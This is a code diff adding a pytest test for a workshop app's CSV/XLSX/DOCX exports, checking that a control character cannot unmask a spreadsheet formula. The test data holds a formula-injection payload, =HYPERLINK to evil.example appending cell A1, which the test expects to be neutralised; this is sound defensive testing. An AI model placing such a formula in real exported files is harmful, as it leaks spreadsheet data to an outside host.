@@ -22,7 +22,7 @@ from icalendar import Calendar
 from jsonschema import Draft202012Validator
 
 from aeh_workshop.extensions import db
-from aeh_workshop.models import Card
+from aeh_workshop.models import Card, Workshop
 from aeh_workshop.outcomes import exports, service as outcomes
 from aeh_workshop.workshops import service as workshops
 from outcome_data import ACTION_TITLE, DUE, OFFER_TITLE, rich_workshop
@@ -278,6 +278,20 @@ def test_formulas_are_neutralised_in_csv_and_xlsx(app, rich, snapshot_of, render
         assert all(number(row[0]) for row in rows[1:])  # card numbers stay numbers
     assert not any(cell.data_type == "f" for ws in workbook(render(snap, "xlsx").data) for row in ws.iter_rows()
                    for cell in row)
+
+
+def test_a_control_character_neither_unmasks_a_formula_nor_breaks_the_files(app, rich, snapshot_of, render):
+    """XLSX cannot hold \x01: it is removed, and what it hid is then neutralised too."""
+    add_cards(app, rich, '\x01=HYPERLINK("http://evil.example/?"&A1, "Cliquez")')
+    with app.app_context():
+        db.session.scalar(db.select(Workshop).filter_by(join_code=rich)).title = "Atelier \x01 « Cœur »"
+        db.session.commit()
+    snap = snapshot_of(rich)
+    book = workbook(render(snap, "xlsx").data)
+    assert rows_of(book["Cartes"])[-1][2] == '\'=HYPERLINK("http://evil.example/?"&A1, "Cliquez")'
+    assert not any(cell.data_type == "f" for ws in book for row in ws.iter_rows() for cell in row)
+    assert book.properties.title == "Atelier  « Cœur »"
+    assert "Cœur" in docx.Document(io.BytesIO(render(snap, "docx").data)).core_properties.title
 
 
 # ----------------------------------------------------------------- Markdown
